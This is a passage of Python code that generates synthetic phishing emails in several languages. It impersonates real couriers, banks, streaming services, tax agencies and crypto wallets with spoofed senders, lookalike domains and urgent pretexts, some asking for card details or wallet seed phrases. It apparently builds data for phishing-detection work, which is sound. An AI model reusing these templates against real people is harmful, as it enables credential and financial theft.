                f"{DOM} Security Update",
                f"Re: {DOM} mailbox verification",
            ]
        )
        text = f"Dear {p.first},\n\nThis is to inform you that your {DOM} email account is due for re-validation as part of our annual security review. Please click the link below and log in to confirm your account:\n\n{url}\n\nFailure to comply will result in your account being suspended.\n\nIT Helpdesk\n{ORG}\n"
        return letter(r, rt, rcpt, to, dt, addr(disp, frm), subj, text, with_html=False)
    return lure(
        r,
        i,
        rt,
        rcpt,
        to,
        dt,
        addr(disp, frm),
        subj,
        blocks,
        DOM,
        r.choice(["#2b579a", "#0f6cbd", "#333333", "#c0392b"]),
        [f"This email was sent to {p.email} by {DOM}"],
    )


# ---- parcels and postal fees ------------------------------------------------------------------

PARCEL = [
    ("Royal Mail", "royalmail.com", "#da202a", "en", "£", ["1.99", "2.99", "1.45"]),
    ("Evri", "evri.com", "#007bc4", "en", "£", ["1.45", "2.40"]),
    ("USPS", "usps.com", "#333366", "en", "$", ["1.95", "3.00", "0.30"]),
    ("DHL Express", "dhl.com", "#d40511", "en", "€", ["1.99", "2.90"]),
    ("FedEx", "fedex.com", "#4d148c", "en", "$", ["2.99", "1.89"]),
    ("UPS", "ups.com", "#351c15", "en", "£", ["2.50", "1.99"]),
    ("PostNL", "postnl.nl", "#ed7000", "nl", "€", ["1.99", "2,95"]),
    ("Correos", "correos.es", "#ffcd00", "es", "€", ["1,79", "2,99"]),
    ("CTT", "ctt.pt", "#d52b1e", "pt", "€", ["1,49", "1,99"]),
    ("DHL Paket", "dhl.de", "#d40511", "de", "€", ["1,99", "2,49"]),
    ("La Poste", "laposte.fr", "#ffcc00", "fr", "€", ["1,99", "2,99"]),
    ("Poste Italiane", "poste.it", "#0047bb", "it", "€", ["1,99", "2,50"]),
]


def f_parcel(r: random.Random, i: int) -> bytes:
    p = victim(r)
    dt = rdate(r)
    brand, bdom, color, lang, cur, fees = PARCEL[i % len(PARCEL)]
    fee = r.choice(fees)
    track = r.choice(
        [
            f"RM{digits(r, 9)}GB",
            f"{digits(r, 12)}",
            f"1Z{rs(r, 16, string.ascii_uppercase + string.digits)}",
            f"JJD{digits(r, 18)}",
            f"H{digits(r, 15)}",
        ]
    )
    stem = brand.split()[0].lower()
    url = (
        landing(r, stem, "")
        if r.random() < 0.5
        else kit_url(
            r,
            r.choice(
                [
                    f"{stem}-{r.choice(['redelivery', 'parcel', 'track', 'fee', 'reschedule'])}.{r.choice(THROWAWAY_TLDS)}",
                    f"{stem}.{rs(r, 5, LOWER)}-{r.choice(['delivery', 'pay'])}.{r.choice(THROWAWAY_TLDS)}",
                    lookalike(r, bdom),
                ]
            ),
        )
    )
    rt, frm = sender_any(
        r,
        bdom,
        local=r.choice(["noreply", "tracking", "delivery", "info", "customer.service"]),
        stem=f"{stem}-{r.choice(['info', 'track', 'notify', 'service'])}",
    )
    rcpt, to = recipients(r, p, 0.45, frm)
    fee_s = f"{cur}{fee}" if cur in "£$" else f"{fee} {cur}"
    if lang == "en":
        subj = r.choice(
            [
                f"Your parcel could not be delivered - {track}",
                f"{brand}: Action required for parcel {track}",
                f"Delivery attempt failed: pay {fee_s} redelivery fee",
                "We missed you! Reschedule your delivery",
                "Your package is on hold at our depot",
                f"Customs fee outstanding for shipment {track}",
            ]
        )
        blocks = [
            ("h", r.choice(["Your item is waiting", "Delivery Unsuccessful", "Your parcel is on hold"])),
            r.choice(
                [
                    f"We attempted to deliver your parcel on {ldate(dt)} but no one was available. A redelivery fee of {fee_s} is required.",
                    f"Your package {track} could not be delivered because the address was incomplete. Please confirm your address and pay the {fee_s} handling fee.",
                    f"An import fee of {fee_s} must be paid before your parcel can be released.",
                ]
            ),
            (
                "kv",
                [
                    ("Tracking number", track),
                    ("Status", r.choice(["On hold", "Awaiting payment", "Returned to depot"])),
                    ("Fee", fee_s),
                ],
            ),
            (
                "btn",
                r.choice(["Reschedule delivery", "Pay now", "Confirm address"]),
                url,
                f"https://www.{bdom}/track?{track}",
            ),
            r.choice(
                [
                    "If the fee is not paid within 48 hours the parcel will be returned to the sender.",
                    "Parcels not claimed within 5 working days are returned.",
                ]
            ),
        ]
    elif lang == "nl":
        subj = f"Uw pakket {track} kon niet worden bezorgd"
        blocks = [
            ("h", "Bezorging mislukt"),
            f"Wij hebben geprobeerd uw pakket te bezorgen, maar er was niemand thuis. Betaal de herbezorgingskosten van {fee_s} om een nieuwe datum te kiezen.",
            ("kv", [("Track & Trace", track), ("Kosten", fee_s)]),
            ("btn", "Nieuwe bezorgdatum kiezen", url, f"https://jouw.{bdom}/track-en-trace"),
            "Met vriendelijke groet, PostNL",
        ]
    elif lang == "es":
        subj = f"Correos: su envío {track} está pendiente de pago"
        blocks = [
            ("h", "Envío retenido"),
            f"Su paquete está retenido en nuestra oficina por falta de pago de los gastos de aduana ({fee_s}).",
            ("kv", [("Número de envío", track), ("Importe", fee_s)]),
            ("btn", "Pagar ahora", url, f"https://www.{bdom}/seguimiento"),
            "Si no se realiza el pago en 48 horas, el envío será devuelto al remitente.",
        ]
    elif lang == "pt":
        subj = f"CTT: a sua encomenda {track} aguarda pagamento"
        blocks = [
            ("h", "Encomenda retida"),
            f"A sua encomenda não pôde ser entregue. Para reagendar a entrega, pague a taxa de {fee_s}.",
            ("kv", [("Código de envio", track), ("Taxa", fee_s)]),
            ("btn", "Reagendar entrega", url, f"https://www.{bdom}/seguimento"),
            "Obrigado por escolher os CTT.",
        ]
    elif lang == "de":
        subj = f"DHL: Ihre Sendung {track} wartet auf Zustellung"
        blocks = [
            ("h", "Zustellung nicht möglich"),
            f"Ihr Paket konnte nicht zugestellt werden. Bitte bestätigen Sie Ihre Adresse und zahlen Sie die Gebühr von {fee_s}.",
            ("kv", [("Sendungsnummer", track), ("Gebühr", fee_s)]),
            ("btn", "Neue Zustellung planen", url, "https://www.dhl.de/sendungsverfolgung"),
            "Ihr DHL-Team",
        ]
    elif lang == "fr":
        subj = f"Colissimo : votre colis {track} est en attente"
        blocks = [
            ("h", "Votre colis est en attente"),
            f"Nous n'avons pas pu livrer votre colis. Des frais de réexpédition de {fee_s} sont nécessaires.",
            ("kv", [("Numéro de suivi", track), ("Montant", fee_s)]),
            (
                "btn",
                "Programmer une nouvelle livraison",
                url,
                "https://www.laposte.fr/outils/suivre-vos-envois",
            ),
            "La Poste - Colissimo",
        ]
    else:
        subj = f"Poste Italiane: la tua spedizione {track} è in giacenza"
        blocks = [
            ("h", "Spedizione in giacenza"),
            f"Il tuo pacco non è stato consegnato. Per riprogrammare la consegna è necessario pagare {fee_s}.",
            ("kv", [("Codice spedizione", track), ("Importo", fee_s)]),
            ("btn", "Riprogramma consegna", url, "https://www.poste.it/cerca/"),
            "Poste Italiane S.p.A.",
        ]
    cs = "utf-8" if lang == "en" else r.choice(["utf-8", "iso-8859-1", "windows-1252"])
    return lure(
        r,
        i,
        rt,
        rcpt,
        to,
        dt,
        addr(r.choice([brand, f"{brand} Delivery", f"{brand} Tracking", f"{brand} Service"]), frm, cs),
        subj,
        blocks,
        brand,
        color,
        [f"© {dt.year} {brand}"],
        lang=lang,
        cs=cs,
    )


# ---- bank and card alerts --------------------------------------------------------------------

BANKS = [
    ("Chase", "chase.com", "#117aca", "en", "$"),
    ("Wells Fargo", "wellsfargo.com", "#d71e28", "en", "$"),
    ("Barclays", "barclays.co.uk", "#00aeef", "en", "£"),
    ("HSBC UK", "hsbc.co.uk", "#db0011", "en", "£"),
    ("American Express", "americanexpress.com", "#006fcf", "en", "£"),
    ("Lloyds Bank", "lloydsbank.co.uk", "#006a4d", "en", "£"),
    ("Santander", "santander.es", "#ec0000", "es", "€"),
    ("Sparkasse", "sparkasse.de", "#ff0000", "de", "€"),
    ("Crédit Agricole", "credit-agricole.fr", "#007d8f", "fr", "€"),
    ("ING", "ing.nl", "#ff6200", "nl", "€"),
    ("Intesa Sanpaolo", "intesasanpaolo.com", "#00796b", "it", "€"),
    ("Millennium bcp", "millenniumbcp.pt", "#d1005d", "pt", "€"),
    ("NatWest", "natwest.com", "#42145f", "en", "£"),
]


def f_bank(r: random.Random, i: int) -> bytes:
    p = victim(r)
    dt = rdate(r)
    brand, bdom, color, lang, cur = BANKS[i % len(BANKS)]
    stem = bdom.split(".")[0]
    url = (
        landing(r, stem, "")
        if r.random() < 0.5
        else kit_url(
            r,
            r.choice(
                [
                    lookalike(r, bdom),
                    f"{stem}-{r.choice(['secure', 'verify', 'online', 'help'])}.{r.choice(THROWAWAY_TLDS)}",
                    brand_sub(r, stem),
                ]
            ),
        )
    )
    rt, frm = sender_any(
        r,
        bdom,
        local=r.choice(["alerts", "security", "no-reply", "service", "fraud-prevention"]),
        stem=f"{stem}-alert",
    )
    rcpt, to = recipients(r, p, 0.45, frm)
    last4 = digits(r, 4)
    amt = f"{cur}{r.randint(240, 4900)}.{r.randint(0, 99):02d}"
    if lang == "en":
        k = r.randrange(4)
        if k == 0:
            subj, blocks = (
                r.choice(
                    [
                        f"Your {brand} card ending {last4} has been suspended",
                        "Important: your card has been temporarily restricted",
                        f"{brand}: unusual activity on your account",
                    ]
                ),
                [
                    ("h", "Your card has been suspended"),
                    f"We noticed unusual activity on your card ending in {last4} and have temporarily suspended it to protect you.",
                    (
                        "kv",
                        [
                            (
                                "Merchant",
                                r.choice(
                                    ["APPLE.COM/BILL", "BINANCE*", "AMZN Mktp", "WESTERN UNION", "SHEIN.COM"]
                                ),
                            ),
                            ("Amount", amt),
                            ("Date", sdate(dt)),
                        ],
                    ),
                    "To restore full access, please verify your identity.",
                    ("btn", "Verify now", url, f"https://www.{bdom}/security"),
                    "If you do not confirm within 24 hours your card will be permanently cancelled.",
                ],
            )
        elif k == 1:
            subj, blocks = (
                r.choice(
                    [
                        "New payee added to your account",
                        f"Did you set up a new payee? ({brand})",
                        "Security alert: new device registered",
                    ]
                ),
                [
                    ("h", "New payee added"),
                    f"A new payee was added to your {brand} online banking on {ldate(dt)} at {dt:%H:%M}.",
                    "If this was not you, cancel the payee immediately.",
                    ("btn", "Cancel payee", url, f"https://online.{bdom}/cancel"),
                    f"{brand} will never ask for your full PIN or password.",
                ],
            )
        elif k == 2:
            subj, blocks = (
                "Your online banking access has been locked",
                [
                    ("h", "Access locked"),
                    "Due to several unsuccessful login attempts your online banking has been locked.",
                    ("btn", "Unlock access", url, f"https://www.{bdom}/unlock"),
                    f"Reference: {rs(r, 10, string.ascii_uppercase + string.digits)}",
                ],
            )
        else:
            subj, blocks = (
                f"Payment of {amt} declined",
                [
                    ("h", "Payment declined"),
                    f"A payment of {amt} to {r.choice(['HMRC', 'British Gas', 'Vodafone UK', 'Adobe Systems'])} was declined because your details need updating.",
                    ("btn", "Update details", url, f"https://www.{bdom}/update"),
                    "Thank you for banking with us.",
                ],
            )
    elif lang == "es":
        subj, blocks = (
            "Aviso de seguridad: su tarjeta ha sido bloqueada",
            [
                ("h", "Tarjeta bloqueada temporalmente"),
                f"Hemos detectado un cargo sospechoso de {amt.replace('€', '')} € en su tarjeta terminada en {last4}.",
                "Para desbloquearla, confirme sus datos a través del siguiente enlace.",
                ("btn", "Confirmar datos", url, f"https://www.{bdom}/particulares"),
                "Banco Santander, S.A.",
            ],
        )
    elif lang == "de":
        subj, blocks = (
            "Wichtig: Aktualisierung Ihres pushTAN-Verfahrens erforderlich",
            [
                ("h", "Ihr pushTAN-Verfahren läuft ab"),
                "Aufgrund neuer gesetzlicher Vorgaben (PSD2) müssen alle Kunden ihr pushTAN-Verfahren bis zum "
                + sdate(dt + timedelta(days=3))
                + " neu registrieren.",
                "Andernfalls wird Ihr Online-Banking-Zugang eingeschränkt.",
                ("btn", "Jetzt aktualisieren", url, "https://www.sparkasse.de/"),
                "Ihre Sparkasse",
            ],
        )
    elif lang == "fr":
        subj, blocks = (
            "Votre accès en ligne a été suspendu",
            [
                ("h", "Mise à jour de sécurité"),
                "Suite à une mise à jour de nos services, votre accès à la banque en ligne a été suspendu. Veuillez confirmer votre identité pour réactiver votre compte.",
                ("btn", "Réactiver mon accès", url, "https://www.credit-agricole.fr/"),
                "Crédit Agricole - Service Client",
            ],
        )
    elif lang == "nl":
        subj, blocks = (
            "Uw betaalpas verloopt binnenkort",
            [
                ("h", "Nieuwe betaalpas aanvragen"),
                f"Uw ING-betaalpas eindigend op {last4} verloopt binnenkort. Vraag direct een nieuwe pas aan om onderbreking te voorkomen.",
                ("btn", "Nieuwe pas aanvragen", url, "https://mijn.ing.nl/"),
                "Met vriendelijke groet, ING",
            ],
        )
    elif lang == "it":
        subj, blocks = (
            "Intesa Sanpaolo: accesso sospeso per motivi di sicurezza",
            [
                ("h", "Verifica necessaria"),
                "Abbiamo rilevato un accesso anomalo al tuo conto. Per motivi di sicurezza l'accesso è stato sospeso.",
                ("btn", "Verifica ora", url, "https://www.intesasanpaolo.com/"),
                "Intesa Sanpaolo S.p.A.",
            ],
        )
    else:
        subj, blocks = (
            "Millennium bcp: atualização de dados obrigatória",
            [
                ("h", "Atualize os seus dados"),
                "Por motivos de segurança, é necessário atualizar os seus dados de acesso ao Millennium bcp até "
                + sdate(dt + timedelta(days=2))
                + ".",
                ("btn", "Atualizar agora", url, "https://ind.millenniumbcp.pt/"),
                "Banco Comercial Português, S.A.",
            ],
        )
    cs = "utf-8" if lang == "en" else r.choice(["utf-8", "iso-8859-1", "windows-1252"])
    return lure(
        r,
        i,
        rt,
        rcpt,
        to,
        dt,
        addr(r.choice([brand, f"{brand} Alerts", f"{brand} Security", f"{brand} Online"]), frm, cs),
        subj,
        blocks,
        brand,
        color,
        [f"{brand} - Please do not reply to this email."],
        lang=lang,
        cs=cs,
    )


# ---- subscription billing ---------------------------------------------------------------------

SUBS = [
    ("PayPal", "paypal.com", "#003087"),
    ("Apple", "apple.com", "#000000"),
    ("Netflix", "netflix.com", "#e50914"),
    ("Amazon", "amazon.co.uk", "#ff9900"),
    ("Spotify", "spotify.com", "#1db954"),
    ("Disney+", "disneyplus.com", "#113ccf"),
    ("Amazon Prime", "amazon.com", "#00a8e1"),
    ("iCloud", "icloud.com", "#3693f3"),
    ("Netflix", "netflix.com", "#e50914"),
    ("Netflix", "netflix.com", "#e50914"),
    ("Spotify", "spotify.com", "#1db954"),
    ("PayPal", "paypal.com", "#003087"),
    ("Apple", "apple.com", "#000000"),
]


def f_subscriptions(r: random.Random, i: int) -> bytes:
    p = victim(r)
    dt = rdate(r)
    brand, bdom, color = SUBS[i % len(SUBS)]
    stem = bdom.split(".")[0].replace("+", "")
    url = landing(r, stem, p.email)
    rt, frm = sender_any(
        r,
        bdom,
        local=r.choice(["billing", "account", "no-reply", "info", "support"]),
        stem=f"{stem}-{r.choice(['billing', 'account', 'help'])}",
    )
    rcpt, to = recipients(r, p, 0.5, frm)
    lang = "en"
    if i in (8, 9, 10, 11):
        lang = {8: "es", 9: "fr", 10: "it", 11: "de"}[i]
    if lang == "es":
        subj, blocks = (
            "Tu cuenta ha sido suspendida - actualiza tu pago",
            [
                ("h", "Problema con tu método de pago"),
                f"No hemos podido procesar el pago de tu suscripción a {brand}. Actualiza tus datos para seguir disfrutando del servicio.",
                ("btn", "Actualizar pago", url, f"https://www.{bdom}/youraccount"),
                f"El equipo de {brand}",
            ],
        )
    elif lang == "fr":
        subj, blocks = (
            "Votre abonnement a expiré",
            [
                ("h", "Mettez à jour vos informations de paiement"),
                f"Nous n'avons pas pu renouveler votre abonnement {brand}. Votre compte sera suspendu sous 48 heures.",
                ("btn", "Mettre à jour", url, f"https://www.{bdom}/account"),
                f"L'équipe {brand}",
            ],
        )
    elif lang == "it":
        subj, blocks = (
            "Il tuo abbonamento è stato sospeso",
            [
                ("h", "Pagamento non riuscito"),
                f"Il rinnovo del tuo abbonamento {brand} non è andato a buon fine. Aggiorna il metodo di pagamento per evitare la sospensione.",
                ("btn", "Aggiorna pagamento", url, f"https://www.{bdom}/account"),
                f"Il team di {brand}",
            ],
        )
    elif lang == "de":
        subj, blocks = (
            "Ihre Mitgliedschaft wurde pausiert",
            [
                ("h", "Zahlung fehlgeschlagen"),
                f"Wir konnten Ihre letzte Zahlung für {brand} nicht verarbeiten. Bitte aktualisieren Sie Ihre Zahlungsdaten.",
                ("btn", "Zahlungsdaten aktualisieren", url, f"https://www.{bdom}/account"),
                f"Ihr {brand}-Team",
            ],
        )
    else:
        k = r.randrange(4)
        order = f"{digits(r, 3)}-{digits(r, 7)}-{digits(r, 7)}"
        if k == 0:
            subj = r.choice(
                [
                    f"Your {brand} subscription has expired",
                    f"{brand}: Payment declined - update your payment method",
                    f"Your {brand} account is on hold",
                    f"Last reminder: {brand} membership suspended",
                ]
            )
            blocks = [
                ("h", "Your subscription has expired"),
                f"We were unable to process your payment for {brand}. To continue your membership, please update your payment details within 48 hours.",
                ("btn", "Update payment", url, f"https://www.{bdom}/account/payment"),
                f"— The {brand} Team",
            ]
        elif k == 1:
            subj = r.choice(
                [
                    "Your account has been limited",
                    f"{brand} account temporarily restricted",
                    f"We've locked your {brand} ID for security reasons",
                ]
            )
            blocks = [
                ("h", "We've limited your account"),
                f"We noticed some unusual activity and have limited what you can do with your {brand} account until you confirm your information.",
                (
                    "kv",
                    [("Case ID", f"PP-{digits(r, 3)}-{digits(r, 3)}-{digits(r, 3)}"), ("Date", ldate(dt))],
                ),
                ("btn", "Confirm information", url, f"https://www.{bdom}/signin"),
                "We're here to help.",
            ]
        elif k == 2:
            amount = f"£{r.randint(89, 899)}.{r.randint(0, 99):02d}"
            subj = r.choice(
                [
                    f"Your order #{order} has been confirmed",
                    f"Receipt from {brand} - {amount}",
                    f"Order Confirmation: {r.choice(['iPhone 16 Pro', 'MacBook Air 13', 'PlayStation 5', 'Samsung Galaxy S24'])}"
                    if brand in ("Amazon", "Apple", "PayPal", "Amazon Prime")
                    else f"{brand}: annual plan renewed",
                ]
            )
            blocks = [
                ("h", "Thank you for your order"),
                (
                    "kv",
                    [
                        ("Order", order),
                        (
                            "Item",
                            r.choice(
                                [
                                    "Apple iPhone 16 Pro Max 256GB",
                                    "Bose QuietComfort Ultra",
                                    "Dyson V15 Detect",
                                    "Apple Gift Card",
                                ]
                            )
                            if brand in ("Amazon", "Apple", "PayPal", "Amazon Prime")
                            else f"{brand} Premium - annual plan (4 screens, {r.randint(3, 6)} profiles)",
                        ),
                        ("Total", amount),
                        (
                            "Ship to",
                            f"{r.choice(FIRST)} {r.choice(LAST)}, {r.randint(2, 99)} {r.choice(['Oak', 'Mill', 'Station'])} Road",
                        ),
                    ],
                ),
                "If you did not make this purchase, cancel it within 24 hours:",
                ("btn", "Cancel order", url, f"https://www.{bdom}/orders/{order}"),
                "This is an automated receipt.",
            ]
        else:
            subj = r.choice(
                [
                    f"Your {brand} storage is full",
                    f"{brand}: your photos and files will be deleted",
                    "Final notice: cloud storage payment failed",
                ]
            )
            blocks = [
                ("h", "Your storage is full"),
                f"Your {brand} storage is full and your payment method has expired. Your photos, videos and files will be deleted on {ldate(dt + timedelta(days=2))}.",
                "As a loyalty reward you can receive 50 GB extra free by updating your details.",
                ("btn", "Keep my files", url, f"https://www.{bdom}/storage"),
                f"Account: {p.email}",
            ]
    cs = "utf-8" if lang == "en" else r.choice(["utf-8", "iso-8859-1", "windows-1252"])
    extra = (
        [("Reply-To", f"{stem}.{rs(r, 5, LOWER)}@{r.choice(['gmail.com', 'outlook.com', throwaway(r)])}")]
        if r.random() < 0.2
        else []
    )
    return lure(
        r,
        i,
        rt,
        rcpt,
        to,
        dt,
        addr(
            r.choice([brand, f"{brand} Support", f"{brand} Billing", f"{brand}.com", f"Service {brand}"]),
            frm,
            cs,
        ),
        subj,
        blocks,
        brand,
        color,
        [f"© {dt.year} {brand}. All rights reserved."],
        extra,
        lang=lang,
        cs=cs,
    )


# ---- tax and government ------------------------------------------------------------------------


def f_taxgov(r: random.Random, i: int) -> bytes:
    p = victim(r)
    dt = rdate(r)
    k = i % 12
    table = [
        ("HMRC", "hmrc.gov.uk", "#005ea5", "en"),
        ("IRS", "irs.gov", "#003366", "en"),
        ("Canada Revenue Agency", "canada.ca", "#26374a", "en"),
        ("Australian Taxation Office", "ato.gov.au", "#1b365d", "en"),
        ("DVLA", "dvla.gov.uk", "#0b0c0c", "en"),
        ("E-ZPass", "e-zpassny.com", "#6c2c91", "en"),
        ("GOV.UK", "gov.uk", "#0b0c0c", "en"),
        ("Agenzia delle Entrate", "agenziaentrate.gov.it", "#0066cc", "it"),
        ("Belastingdienst", "belastingdienst.nl", "#154273", "nl"),
        ("impots.gouv.fr", "impots.gouv.fr", "#000091", "fr"),
        ("Portal das Finanças", "portaldasfinancas.gov.pt", "#006633", "pt"),
        ("Dart Charge", "gov.uk", "#1d70b8", "en"),
    ]
    brand, bdom, color, lang = table[k]
    stem = bdom.split(".")[0]
    url = (
        landing(r, stem, "")
        if r.random() < 0.5
        else kit_url(
            r,
            r.choice(
                [
                    f"{stem}-{r.choice(['refund', 'gov', 'claim', 'tax', 'pay'])}.{r.choice(THROWAWAY_TLDS)}",
                    f"{stem}.gov.{rs(r, 5, LOWER)}.{r.choice(THROWAWAY_TLDS)}",
                    lookalike(r, bdom),
                ]
            ),
        )
    )
    rt, frm = sender_any(
        r,
        bdom,
        local=r.choice(["noreply", "refunds", "notice", "info"]),
        stem=f"{stem}-{r.choice(['refund', 'notice', 'online'])}",
        policy=r.choice(["reject", "quarantine", "none"]),
    )
    rcpt, to = recipients(r, p, 0.5, frm)
    amt = f"{r.randint(180, 980)}.{r.randint(0, 99):02d}"
    ref = rs(r, 10, string.ascii_uppercase + string.digits)
    if k == 0:
        subj, blocks = (
            r.choice(
                [
                    f"HMRC: You are eligible for a tax refund of £{amt}",
                    "Tax rebate notification - action required",
                    f"Self Assessment refund reference {ref}",
                ]
            ),
            [
                ("h", "Tax Refund Notification"),
                f"After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of £{amt}.",
                "Please submit the tax refund request and allow 3-5 working days to process it.",
                ("btn", "Claim refund", url, "https://www.tax.service.gov.uk/refund"),
                f"Reference: {ref}",
                "HM Revenue & Customs",
            ],
        )
    elif k == 1:
        subj, blocks = (
            r.choice(
                [
                    "IRS: Your tax return could not be processed",
                    "Important notice: verify your identity (Form 5071C)",
                    f"IRS Refund Notification ${amt}",
                ]
            ),
            [
                ("h", "Internal Revenue Service"),
                f"We were unable to process your federal tax return. To receive your refund of ${amt}, verify your identity using the secure link.",
                ("btn", "Verify identity", url, "https://www.irs.gov/identity"),
                "Department of the Treasury, Internal Revenue Service",
            ],
        )
    elif k == 2:
        subj, blocks = (
            "CRA: You have received an Interac e-Transfer refund",
            [
                ("h", "Canada Revenue Agency"),
                f"You have a pending refund of ${amt} CAD. Select your financial institution to deposit the funds.",
                ("btn", "Deposit funds", url, "https://www.canada.ca/en/revenue-agency.html"),
                "This transfer expires in 30 days.",
            ],
        )
    elif k == 3:
        subj, blocks = (
            "ATO: Update your details to receive your refund",
            [
                ("h", "Australian Taxation Office"),
                f"Your tax return for {dt.year - 1}-{str(dt.year)[2:]} has been assessed. A refund of ${amt} is pending. Link your myGov account to receive it.",
                ("btn", "Sign in to myGov", url, "https://my.gov.au/"),
                "Australian Government",
            ],
        )
    elif k == 4:
        subj, blocks = (
            r.choice(
                [
                    "DVLA: your vehicle tax payment failed",
                    "Action required: Vehicle tax direct debit rejected",
                    "DVLA - Your vehicle is no longer taxed",
                ]
            ),
            [
                ("h", "Vehicle tax reminder"),
                f"We were unable to collect your latest vehicle tax payment for vehicle {rs(r, 2, string.ascii_uppercase)}{r.randint(10, 74)} {rs(r, 3, string.ascii_uppercase)}. You must update your payment details to avoid a fine of up to £1,000.",
                ("btn", "Update payment details", url, "https://www.gov.uk/vehicle-tax"),
                "Driver and Vehicle Licensing Agency",
            ],
        )
    elif k == 5:
        subj, blocks = (
            r.choice(
                [
                    "E-ZPass: unpaid toll balance",
                    "Final notice: unpaid toll charges",
                    "Toll Services: outstanding balance $6.99",
                ]
            ),
            [
                ("h", "Unpaid Toll Notice"),
                f"Our records show an unpaid toll of ${r.choice(['4.15', '6.99', '11.69', '3.35'])} for your vehicle. A late fee of $50.00 will be charged if not paid by {usdate(dt + timedelta(days=2))}.",
                ("btn", "Pay toll", url, "https://www.e-zpassny.com/pay"),
                "E-ZPass Customer Service Center",
            ],
        )
    elif k == 6:
        subj, blocks = (
            "GOV.UK: Cost of Living payment - claim now",
            [
                ("h", "You are eligible for a support payment"),
                f"You are eligible for a one-off Cost of Living payment of £{r.choice(['301', '299', '150'])}. Claim before {ldate(dt + timedelta(days=5))}.",
                ("btn", "Claim payment", url, "https://www.gov.uk/cost-of-living"),
                "GOV.UK",
            ],
        )
    elif k == 7:
        subj, blocks = (
            "Agenzia delle Entrate: rimborso fiscale disponibile",
            [
                ("h", "Comunicazione di rimborso"),
                f"Gentile contribuente, risulta a Suo favore un rimborso IRPEF di € {amt.replace('.', ',')}. Per ricevere l'accredito compili il modulo online.",
                ("btn", "Richiedi rimborso", url, "https://www.agenziaentrate.gov.it/"),
                "Agenzia delle Entrate",
            ],
        )
    elif k == 8:
        subj, blocks = (
            "Belastingdienst: u heeft recht op een teruggave",
            [
                ("h", "Teruggave inkomstenbelasting"),
                f"Na controle van uw aangifte heeft u recht op een teruggave van € {amt.replace('.', ',')}. Vul uw gegevens in om het bedrag te ontvangen.",
                ("btn", "Teruggave aanvragen", url, "https://www.belastingdienst.nl/"),
                "Belastingdienst",
            ],
        )
    elif k == 9:
        subj, blocks = (
            "Avis de remboursement - impots.gouv.fr",
            [
                ("h", "Remboursement d'impôt"),
                f"Après le calcul annuel de votre impôt, vous êtes éligible à un remboursement de {amt.replace('.', ',')} €.",
                ("btn", "Accéder au formulaire", url, "https://www.impots.gouv.fr/"),
                "Direction générale des Finances publiques",
            ],
        )
    elif k == 10:
        subj, blocks = (
            "Portal das Finanças: notificação de reembolso IRS",
            [
                ("h", "Reembolso de IRS"),
                f"Tem um reembolso de IRS no valor de {amt.replace('.', ',')} € pendente. Confirme os seus dados bancários para receber.",
                ("btn", "Confirmar dados", url, "https://www.portaldasfinancas.gov.pt/"),
                "Autoridade Tributária e Aduaneira",
            ],
        )
    else:
        subj, blocks = (
            "Dart Charge: Penalty Charge Notice issued",
            [
                ("h", "Penalty Charge Notice"),
                f"You crossed the Dartford Crossing on {ldate(dt - timedelta(days=4))} and did not pay. Pay £{r.choice(['2.50', '3.50'])} today to avoid a £70 penalty.",
                ("btn", "Pay now", url, "https://www.gov.uk/pay-dartford-crossing-charge"),
                "National Highways",
            ],
        )
    cs = "utf-8" if lang == "en" else r.choice(["utf-8", "iso-8859-1"])
    return lure(
        r,
        i,
        rt,
        rcpt,
        to,
        dt,
        addr(r.choice([brand, f"{brand} Online", f"{brand} Notification", f"{brand} Services"]), frm, cs),
        subj,
        blocks,
        brand,
        color,
        ["© Crown copyright" if bdom.endswith("gov.uk") else f"{brand}"],
        lang=lang,
        cs=cs,
    )


# ---- crypto wallets ----------------------------------------------------------------------------


def f_crypto(r: random.Random, i: int) -> bytes:
    p = victim(r)
    dt = rdate(r)
    brands = [
        ("MetaMask", "metamask.io", "#f6851b"),
        ("Ledger", "ledger.com", "#000000"),
        ("Coinbase", "coinbase.com", "#0052ff"),
        ("Trust Wallet", "trustwallet.com", "#3375bb"),
        ("Trezor", "trezor.io", "#0f6148"),
        ("Binance", "binance.com", "#f0b90b"),
        ("Kraken", "kraken.com", "#5741d9"),
        ("Exodus", "exodus.com", "#8b5cf6"),
    ]
    brand, bdom, color = brands[i % len(brands)]
    stem = bdom.split(".")[0]
    url = (
        kit_url(
            r,
            r.choice(
                [
                    f"{stem}-{r.choice(['wallet', 'sync', 'verify', 'restore', 'support'])}.{r.choice([*THROWAWAY_TLDS, 'app', 'io'])}",
                    puny(r, stem, r.choice(["io", "com", "app"])),
                    lookalike(r, bdom),
                    f"{rs(r, 6, LOWER)}.{r.choice(['pages.dev', 'web.app', 'vercel.app', 'netlify.app'])}",
                ]
            ),
        )
        if r.random() < 0.7
        else landing(r, stem, "")
    )
    rt, frm = sender_any(
        r,
        bdom,
        local=r.choice(["support", "security", "no-reply", "team", "compliance"]),
        stem=f"{stem}-{r.choice(['alert', 'support', 'kyc'])}",
    )
    rcpt, to = recipients(r, p, 0.55, frm)
    btc = f"{r.randint(0, 2)}.{digits(r, 5)}"
    k = r.randrange(5)
    if i == 9:
        lang = r.choice(["pt", "es"])
        if lang == "pt":
            subj, blocks = (
                f"{brand}: verificação obrigatória da carteira",
                [
                    ("h", "Verifique a sua carteira"),
                    f"Devido a novas regras, todas as carteiras {brand} devem ser verificadas. Carteiras não verificadas serão bloqueadas e os fundos poderão ser perdidos.",
                    ("btn", "Verificar carteira", url, f"https://{bdom}/verify"),
                    "Tenha à mão a sua frase de recuperação.",
                ],
            )
        else:
            subj, blocks = (
                f"{brand}: verificación obligatoria de su billetera",
                [
                    ("h", "Verifique su billetera"),
                    f"Por nuevas normativas, todas las billeteras {brand} deben verificarse antes del {sdate(dt + timedelta(days=2))}. Los fondos de billeteras no verificadas podrían perderse.",
                    ("btn", "Verificar billetera", url, f"https://{bdom}/verify"),
                    "Necesitará su frase semilla de 12 palabras.",
                ],
            )
        return lure(
            r,
            i,
            rt,
            rcpt,
            to,
            dt,
            addr(brand, frm),
            subj,
            blocks,
            brand,
            color,
            [brand],
            lang=lang,
            cs=r.choice(["utf-8", "iso-8859-1"]),
        )
    if k == 0:
        subj = r.choice(
            [
                f"{brand}: Wallet verification required",
                f"Your {brand} wallet will be suspended",
                "Action required: mandatory KYC verification",
                f"Important: {brand} wallet synchronisation",
            ]
        )
        blocks = [
            ("h", "Verify your wallet"),
            f"Due to new regulatory requirements, all {brand} wallets must be verified before {ldate(dt + timedelta(days=2))}. Unverified wallets will be restricted and funds may be lost.",
